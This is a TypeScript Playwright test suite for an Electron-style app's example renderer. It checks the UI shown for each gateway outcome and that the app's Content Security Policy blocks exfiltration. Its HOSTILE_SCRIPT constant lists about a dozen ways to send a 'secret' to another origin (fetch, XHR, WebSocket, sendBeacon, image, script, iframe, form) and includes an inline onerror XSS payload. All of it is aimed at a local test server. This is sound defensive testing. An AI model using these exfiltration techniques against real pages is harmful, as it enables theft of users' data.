/**
 * The example renderer in a real browser (headless Debian Chromium): with the real preload and the
 * real bridge behind `window.gatehouse`, the page shows the right UX for each outcome; and with
 * the app's CSP, hostile page script cannot send anything to another loopback origin.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { GatehouseFailure, toGatewayError, type Reason } from '../src/errors.ts';
import type { CallResult } from '../src/gateway/gateway.ts';
import { exposeGateway } from '../src/hosts/electron/index.ts';
import { StandInIpcMain, StandInWebContents } from './support/electron-standin.ts';
import { fakeGateway, type FakeGateway } from './support/fake-gateway.ts';
import {
  browserSkipReason,
  launchChromium,
  openRendererPage,
  startCountingServer,
  startRendererServer,
  type CountingServer,
  type LoopbackServer,
} from './support/renderer-page.ts';
import { skipUnlessCi } from './support/required-service.ts';
import { until } from './support/routes.ts';

const FORECAST = { city: 'Oslo', days: [{ date: '2026-01-01', summary: 'Snow', high: -1, low: -6 }] };

/**
 * Hostile page script: every way to send data to `other` that the CSP must stop. Runs in the page
 * as plain script; resolves to the CSP directives that reported a violation.
 */
const HOSTILE_SCRIPT = `async (other) => {
  const seen = [];
  document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  const attempts = [
    () => fetch(other + '/fetch?secret=1').catch(() => {}),
    () => fetch(other + '/fetch-no-cors', { mode: 'no-cors', method: 'POST', body: 'secret' }).catch(() => {}),
    () => { const xhr = new XMLHttpRequest(); xhr.open('GET', other + '/xhr'); xhr.send(); },
    () => new WebSocket(other.replace('http', 'ws') + '/ws'),
    () => navigator.sendBeacon(other + '/beacon', 'secret'),
    () => new EventSource(other + '/sse'),
    () => { new Image().src = other + '/image'; },
    () => { const s = document.createElement('script'); s.src = other + '/script.js'; document.body.append(s); },
    () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = other + '/style.css'; document.head.append(l); },
    () => { const f = document.createElement('iframe'); f.src = other + '/frame'; document.body.append(f); },
    () => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = other + '/form';
      const input = document.createElement('input');
      input.name = 'secret';
      input.value = 'x';
      form.append(input);
      document.body.append(form);
      form.submit();
    },
    // An injected inline handler (an XSS payload) does not even run.
    () => document.body.insertAdjacentHTML('beforeend', '<img src="x-missing" onerror="fetch(\\'' + other + '/inline\\')">'),
  ];
  for (const attempt of attempts) {
    try { attempt(); } catch { /* blocked synchronously is fine too */ }
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return seen;
}`;

/** What the gateway answers, by city typed into the page (real envelopes, real messages). */
function answer(operation: string, params: unknown): CallResult {
  const failure = (reason: Reason, detail: Partial<{ status: number; retryAfterMs: number }> = {}): CallResult => ({
    ok: false,
    error: toGatewayError(new GatehouseFailure(reason, 'test', { ...detail, kind: reason === 'upstream_status' ? 'service_unavailable' : undefined }), operation, 'corr-1234'),
  });
  if (operation === 'weather.exportHistory') return failure('caller_not_allowed');
  if (operation === 'weather.saveFavourite') return { ...failure('no_network'), queued: { id: 'q-1' } } as CallResult;
  const city = (params as { city?: string }).city;
  if (city === 'Offline') return failure('no_network');
  if (city === 'Auth') return failure('unauthorized', { status: 401 });
  if (city === 'Down') return failure('upstream_status', { status: 503, retryAfterMs: 1500 });
  return { ok: true, status: 200, data: FORECAST, correlationId: 'corr-ok' };
}

describe('example renderer in headless Chromium', { skip: skipUnlessCi(browserSkipReason) }, () => {
  let browser: Browser;
  let app: LoopbackServer;
  let target: CountingServer;
  let gateway: FakeGateway;
  let ipcMain: StandInIpcMain;
  let contents: StandInWebContents;
  let page: Page;

  before(async () => {
    [browser, app, target] = await Promise.all([launchChromium(), startRendererServer(), startCountingServer()]);
    ipcMain = new StandInIpcMain();
    gateway = fakeGateway(answer);
    const bridge = exposeGateway(gateway, { ipcMain });
    contents = new StandInWebContents(`${app.origin}/index.html`);
    bridge.allow(contents, { role: 'renderer', origins: [app.origin] });
    page = await openRendererPage(browser, `${app.origin}/index.html`, ipcMain, contents);
  });

  after(async () => {
    await browser?.close();
    await Promise.all([app?.close(), target?.close()]);
  });

  async function loadCity(city: string): Promise<void> {
    await page.fill('#city', city);
    await page.click('#load');
    await until(async () => (await page.getAttribute('#result', 'aria-busy')) === 'false' && (await page.getAttribute('#result', 'data-state')) !== 'idle');
  }

  const text = (selector: string) => page.textContent(selector).then((t) => (t ?? '').trim());
  const hidden = (selector: string) => page.isHidden(selector);

  it('window.gatehouse is the frozen { call, onStatus } of the real preload', async () => {
    const shape = await page.evaluate('({ keys: Object.keys(window.gatehouse).sort(), frozen: Object.isFrozen(window.gatehouse) })');
    assert.deepEqual(shape, { keys: ['call', 'onStatus'], frozen: true });
  });

  it('success: shows the data, no spinner, no retry', async () => {
    await loadCity('Oslo');
    assert.equal(await page.getAttribute('#result', 'data-state'), 'ok');
    assert.equal(await text('#title'), 'Forecast for Oslo');
    assert.equal(await text('#days'), '2026-01-01: Snow (-6–-1°)');
    assert.equal(await hidden('#progress'), true);
    assert.equal(await hidden('#retry'), true);
    assert.equal(gateway.calls.at(-1)?.options.caller, 'renderer');
  });

  it('offline: says so plainly, offers to try again, keeps a support reference', async () => {
    await loadCity('Offline');
    assert.equal(await page.getAttribute('#result', 'data-state'), 'offline');
    assert.match(await text('#message'), /offline/i);
    assert.equal(await hidden('#retry'), false);
    assert.equal(await text('#reference'), 'Reference for support: corr-1234');
    assert.equal(await hidden('#progress'), true);
  });

  it('auth required: asks to sign in', async () => {
    await loadCity('Auth');
    assert.equal(await page.getAttribute('#result', 'data-state'), 'auth');
    assert.match(await text('#message'), /sign in/i);
  });

  it('service unavailable: honours Retry-After without blocking the page', async () => {
    await loadCity('Down');
    assert.equal(await page.getAttribute('#result', 'data-state'), 'unavailable');
    assert.match(await text('#message'), /temporarily unavailable/);
    assert.equal(await page.isDisabled('#retry'), true);
    assert.match(await text('#retry'), /Try again in 2 s/);
    assert.equal(await page.isEnabled('#load'), true, 'the rest of the page stays usable');
    await until(() => page.isEnabled('#retry'));
  });

  it('blocked by policy: explains, offers no retry', async () => {
    await page.click('#export');
    await until(async () => (await page.getAttribute('#export-status', 'data-state')) !== 'loading');
    assert.equal(await page.getAttribute('#export-status', 'data-state'), 'blocked');
    assert.match(await text('#export-status'), /blocked by a security policy/);
  });

  it('queued offline: a save is confirmed as queued; status events drive the offline banner', async () => {
    await page.click('#save');
    await until(async () => (await page.getAttribute('#save-status', 'data-state')) === 'queued');
    assert.match(await text('#save-status'), /sent when you're back online/);
    assert.equal(gateway.calls.at(-1)?.options.idempotencyKey !== undefined, true);
    gateway.emitStatus({ type: 'offline' });
    await until(() => page.isVisible('#connectivity'));
    gateway.emitStatus({ type: 'online' });
    await until(() => page.isHidden('#connectivity'));
  });

  it('a slow call keeps the page usable and says it is still working', async () => {
    gateway.hold = true;
    await page.fill('#city', 'Oslo');
    await page.click('#load');
    await until(async () => (await text('#progress-text')).includes('Still working'), 6000);
    assert.equal(await page.isDisabled('#load'), true);
    assert.equal(await page.isEnabled('#save'), true);
    assert.equal(await page.isEnabled('#city'), true);
    gateway.hold = false;
    gateway.release();
    await until(async () => (await page.getAttribute('#result', 'aria-busy')) === 'false');
    assert.equal(await hidden('#progress'), true);
  });

  it('the CSP stops fetch, XHR, WebSocket, sendBeacon, image, script, style, frame and form exfiltration', async () => {
    const violations = (await page.evaluate(`(${HOSTILE_SCRIPT})(${JSON.stringify(target.origin)})`)) as string[];
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Nothing reached the other origin: no request, no upgrade, not one byte. (Chromium may still
    // open a TCP connection speculatively when a frame or form navigation starts, before the CSP
    // refuses it; it carries nothing. docs/electron.md records this.)
    assert.deepEqual({ ...target.hits, connections: 0 }, { connections: 0, bytes: 0, requests: 0, upgrades: 0, paths: [] });
    assert.ok(target.hits.connections <= 2, `at most the two navigation preconnects, saw ${target.hits.connections}`);
    for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'frame-src', 'form-action', 'script-src-attr']) {
      assert.ok(violations.includes(directive), `expected a ${directive} violation, saw ${violations.join(', ')}`);
    }
  });

  it('control: without the CSP the same page does reach the other origin', async () => {
    const control = await browser.newPage();
    try {
      await control.goto(`${app.origin}/control.html`);
      await control.evaluate(`(async (other) => {
        new Image().src = other + '/control-image';
        await fetch(other + '/control-fetch').catch(() => {});
      })(${JSON.stringify(target.origin)})`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      assert.ok(target.hits.requests >= 2, `the control page should reach the target, got ${target.hits.requests}`);
    } finally {
      await control.close();
    }
  });
});
